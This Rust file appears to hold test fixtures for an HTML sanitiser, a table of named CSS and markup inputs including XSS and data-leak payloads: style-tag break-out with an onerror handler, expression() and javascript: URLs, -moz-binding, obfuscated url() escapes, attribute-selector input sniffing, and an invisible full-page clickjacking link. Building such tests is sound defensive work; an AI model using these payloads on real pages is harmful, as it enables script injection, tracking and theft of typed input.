//! Styles, and sheets of them: they load, hide, cover, and tell what is written.

pub(super) const ALL: &[(&str, &str)] = &[
    ("sheet", "<style>body{display:none}</style>words"),
    (
        "sheet-that-imports",
        "<style>@import '{beacon}';</style>words",
    ),
    (
        "sheet-with-a-font",
        "<style>@font-face{font-family:a;src:url({beacon})}*{font-family:a}</style>words",
    ),
    (
        "sheet-that-tells-what-is-written",
        "<style>input[value^=a]{background:url({beacon})}</style>words",
    ),
    (
        "sheet-with-a-layer",
        "<style>@layer notes{.notes{position:fixed;inset:0}}</style>words",
    ),
    (
        "sheet-of-a-drawing",
        "<svg><style>body{display:none}</style></svg>words",
    ),
    (
        "sheet-for-one-browser",
        "<style>body{-moz-binding:url({beacon})}</style>words",
    ),
    (
        "sheet-with-markup",
        "<style></style><img src=x onerror={run}></style>",
    ),
    (
        "background-from-elsewhere",
        "<p style='background:url({beacon})'>words</p>",
    ),
    (
        "background-written-in-escapes",
        "<p style='background:u\\72l({beacon})'>words</p>",
    ),
    (
        "background-of-a-set",
        "<p style='background:image-set(\"{beacon}\" 1x)'>words</p>",
    ),
    (
        "picture-of-a-list",
        "<ul style='list-style-image:url({beacon})'><li>words</ul>",
    ),
    (
        "pointer-from-elsewhere",
        "<p style='cursor:url({beacon}),auto'>words</p>",
    ),
    (
        "content-from-elsewhere",
        "<p style='content:url({beacon})'>words</p>",
    ),
    (
        "value-that-runs",
        "<p style='width:expression({run})'>words</p>",
    ),
    (
        "value-that-is-a-behaviour",
        "<p style='behavior:url({beacon})'>words</p>",
    ),
    (
        "value-that-is-a-scheme",
        "<p style='background:url(\"javascript:{run}\")'>words</p>",
    ),
    (
        "value-with-a-reference",
        "<p style='background:&#117;rl({beacon})'>words</p>",
    ),
    (
        "cover-of-the-page",
        "<a href=https://elsewhere.example style='position:fixed;inset:0;opacity:0;z-index:9999'>words</a>",
    ),
    (
        "cover-of-the-page-by-a-class",
        "<div class='fixed bar player'>words</div>",
    ),
    (
        "words-that-are-hidden",
        "<p style='font-size:0;color:transparent'>words</p>",
    ),
    (
        "variable-of-the-site-s-own",
        "<p style='--leaf:red;--leaf-wash:url({beacon})'>words</p>",
    ),
    (
        "colour-of-old",
        "<font color=red size=7 face='a;background:url({beacon})'>words</font>",
    ),
    (
        "size-of-old",
        "<table width=99999 height=99999 border=99><tr><td width=99999 nowrap>words</table>",
    ),
    (
        "style-in-capitals",
        "<P STYLE='BACKGROUND:URL({beacon})'>words</P>",
    ),
];
